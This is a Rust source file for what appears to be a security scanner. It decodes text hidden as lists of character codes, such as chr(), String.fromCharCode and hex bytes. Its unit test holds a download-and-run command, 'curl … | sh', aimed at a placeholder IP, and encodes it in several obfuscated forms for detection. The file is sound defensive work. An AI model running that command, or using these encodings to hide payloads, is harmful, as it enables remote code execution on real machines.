//! Lists of character codes: `[99, 117, 114]`, `0x63, 0x75`, `chr(99)+chr(117)`,
//! `String.fromCharCode(99, 117)`, `[char]99+[char]117`.

use std::ops::Range;

use super::Finds;
use crate::scan::layer::budget::TEXT_BYTES;
use crate::scan::layer::readable::has_words;

/// Numbers from which on a list is read as characters.
const LIST_CODES: usize = 12;
/// The same where the text names the function that makes characters of them.
const NAMED_LIST_CODES: usize = 5;
/// Bytes between two numbers.
const GAP_BYTES: usize = 24;

/// Words that stand between numbers, or before the first, where they are characters.
const NAMES: [&str; 8] = ["chr", "char", "chrw", "fromcharcode", "fromcodepoint", "bytes", "bytearray", "string"];

/// Finds the lists of `text`.
pub(super) fn find(text: &str, finds: &mut Finds) {
    let bytes = text.as_bytes();
    let mut list = List { text, span: 0..0, codes: String::new(), is_cut: false };
    let mut at = 0;
    while at < bytes.len() {
        if !bytes[at].is_ascii_digit() {
            at += 1;
            continue;
        }
        let start = at;
        while at < bytes.len() && (bytes[at].is_ascii_alphanumeric() || matches!(bytes[at], b'_' | b'.')) {
            at += 1;
        }
        let is_word =
            start > 0 && (bytes[start - 1].is_ascii_alphanumeric() || matches!(bytes[start - 1], b'_' | b'-' | b'.'));
        // A full stop at the end joins the next string in some languages, and ends a sentence.
        let end = if bytes[at - 1] == b'.' { at - 1 } else { at };
        match code(&bytes[start..end]).filter(|_| !is_word) {
            Some(code) => list.push(start..end, code, finds),
            None => list.flush(finds),
        }
    }
    list.flush(finds);
}

struct List<'t> {
    text: &'t str,
    span: Range<usize>,
    codes: String,
    is_cut: bool,
}

impl List<'_> {
    fn push(&mut self, number: Range<usize>, code: char, finds: &mut Finds) {
        if self.codes.is_empty() || !joins(&self.text.as_bytes()[self.span.end..number.start]) {
            self.flush(finds);
            self.span.start = number.start;
        }
        self.span.end = number.end;
        if self.codes.len() < TEXT_BYTES {
            self.codes.push(code);
        } else {
            self.is_cut = true;
        }
    }

    fn flush(&mut self, finds: &mut Finds) {
        let codes = std::mem::take(&mut self.codes);
        let is_cut = std::mem::take(&mut self.is_cut);
        if codes.len() < NAMED_LIST_CODES || !has_words(&codes) {
            return;
        }
        let from = self.text.ceil_char_boundary(self.span.start.saturating_sub(GAP_BYTES));
        let before = self.text[from..self.span.start].to_ascii_lowercase();
        if codes.len() >= LIST_CODES || NAMES.iter().any(|name| before.contains(name)) {
            finds.is_cut |= is_cut;
            finds.push(self.span.clone(), "character codes", codes);
        }
    }
}

fn code(digits: &[u8]) -> Option<char> {
    let text = std::str::from_utf8(digits).ok()?;
    let value = match text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        Some(hexadecimal) if hexadecimal.len() <= 2 => u32::from_str_radix(hexadecimal, 16).ok()?,
        None if (1..=3).contains(&text.len()) => text.parse().ok()?,
        _ => return None,
    };
    matches!(value, 9 | 10 | 13 | 32..=126).then(|| char::from_u32(value)).flatten()
}

/// Tells whether what stands between two numbers joins them: signs, and the names of functions.
fn joins(gap: &[u8]) -> bool {
    gap.len() <= GAP_BYTES
        && !gap.is_empty()
        && gap
            .split(|byte| !byte.is_ascii_alphabetic())
            .filter(|word| !word.is_empty())
            .all(|word| NAMES.iter().any(|name| word.eq_ignore_ascii_case(name.as_bytes())))
        && gap.iter().all(|byte| byte.is_ascii_alphabetic() || b" \t\r\n,;+&.()[]\"'$%".contains(byte))
}

#[cfg(test)]
mod tests {
    use super::super::find_all;

    #[test]
    fn lists_of_codes_are_read() {
        let payload = "curl -s http://203.0.113.7/x|sh";
        let list =
            |one: &dyn Fn(u8) -> String, between: &str| payload.bytes().map(one).collect::<Vec<_>>().join(between);
        let rows = [
            list(&|code| code.to_string(), ","),
            list(&|code| code.to_string(), ", "),
            list(&|code| code.to_string(), " "),
            list(&|code| format!("0x{code:02x}"), ", "),
            list(&|code| format!("chr({code})"), "+"),
            list(&|code| format!("chr({code})"), " . "),
            list(&|code| format!("[char]{code}"), "+"),
            list(&|code| format!("String.fromCharCode({code})"), " + "),
        ];
        for text in rows {
            let finds = find_all(&format!("run({text})"));
            assert_eq!(finds.texts.iter().map(|found| found.text.as_str()).collect::<Vec<_>>(), [payload], "{text}");
        }
        assert_eq!(find_all("String.fromCharCode(119,104,111,97,109,105)").texts[0].text, "whoami");
    }

    #[test]
    fn numbers_that_are_no_text_are_no_layer() {
        let rows = [
            "[10, 20, 30, 40, 50, 60, 70, 80, 90, 100, 110, 120]",
            "1.5, 2.5, 3.5, 99.1, 97.2, 101.3, 102.4, 103.5, 104.6, 105.7, 106.8, 107.9, 108.0",
            "32, 33, 34, 35, 36, 37, 38, 39, 40, 41, 42, 43, 44, 45",
        ];
        for text in rows {
            assert_eq!(find_all(text).texts, [], "{text}");
        }
    }
}
